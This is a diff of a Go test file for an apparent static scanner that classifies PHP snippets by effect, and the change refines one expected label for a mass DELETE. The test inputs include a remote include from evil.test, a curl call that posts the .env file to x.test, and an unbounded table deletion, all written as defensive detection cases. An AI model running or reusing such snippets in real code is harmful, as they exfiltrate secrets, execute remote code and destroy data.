@@ -36,7 +36,7 @@ func phpCases() []scanCase {
 		{`include "lib.php";`, `php 3: lib.php; ?`},
 		{`include "http://evil.test/x";`, `exec.remote http://evil.test/x (downloaded); net.fetch http://evil.test/x`},
 		{`$ch = curl_init("http://x.test/"); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents(".env")); curl_exec($ch);`, `fs.read .env; net.send http://x.test/ <- .env`},
-		{`$db = new PDO("sqlite:a.db"); $db->exec("DELETE FROM users");`, `db.destroy (DELETE without WHERE)`},
+		{`$db = new PDO("sqlite:a.db"); $db->exec("DELETE FROM users");`, `db.destroy users in a.db (DELETE without WHERE); fs.read a.db; fs.write a.db (append)`},
 		{"echo <<<EOT\nhello $name\nEOT;", `pure`},
 		{"// system(\"id\");\necho 1;", `pure`},
 		{`if (file_exists("a")) { unlink("a"); } else { echo "no"; }`, `fs.delete a`},
